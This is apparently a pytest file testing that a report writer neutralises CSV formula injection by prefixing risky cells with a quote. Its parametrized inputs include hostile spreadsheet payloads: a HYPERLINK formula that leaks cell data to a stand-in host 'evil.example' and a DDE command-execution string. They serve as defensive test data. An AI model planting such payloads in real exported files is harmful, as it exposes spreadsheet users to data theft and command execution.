"""CSV reports are opened in spreadsheets: a cell that a spreadsheet would run as a formula is
neutralised (OWASP "CSV injection"), whoever wrote it (a producer's id, a platform's error text)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from syndicate.operations.report import REPORT_FIELDS, write_report


def row(**kw: Any) -> dict[str, Any]:
    base: dict[str, Any] = dict.fromkeys(REPORT_FIELDS, "")
    base.update(item_id="launch", revision=1, locale="de-DE", account="x-dach", slot=0, state="failed",
                scheduled_for="2026-11-23T09:00:00+00:00", tagged_url="https://ex.com/?utm_source=x", attempts=2)
    base.update(kw)
    return base


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "   =1+1",
])
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(hostile: str) -> None:
    # Given a platform error text that a spreadsheet would evaluate
    text = write_report([row(last_error=hostile, utm_term=hostile)], "csv")
    # When the CSV is read back, Then the cell starts with ' and keeps the rest as it was
    [out] = cells(text)
    assert out["last_error"] == "'" + hostile
    assert out["utm_term"] == "'" + hostile


def test_ordinary_text_numbers_and_links_are_unchanged() -> None:
    text = write_report([row(last_error="X refused the post (HTTP 403): a-b = c", permalink="https://x.com/1")],
                        "csv")
    [out] = cells(text)
    assert out["last_error"] == "X refused the post (HTTP 403): a-b = c"
    assert out["permalink"] == "https://x.com/1"
    assert out["attempts"] == "2" and out["revision"] == "1"


def test_json_keeps_the_value_as_stored() -> None:
    # JSON is read by programs, not spreadsheets: nothing is added there
    assert '"last_error": "=1+1"' in write_report([row(last_error="=1+1")], "json")


def test_a_line_break_inside_a_cell_never_starts_a_new_row() -> None:
    # Given an error text holding a bare CR and an LF, each followed by a formula
    text = write_report([row(last_error="refused\r=1+1\n@SUM(2)")], "csv")
    # Then the report still has one row, and the cell kept its text
    rows = cells(text)
    assert len(rows) == 1
    assert rows[0]["last_error"] == "refused\r=1+1\n@SUM(2)"
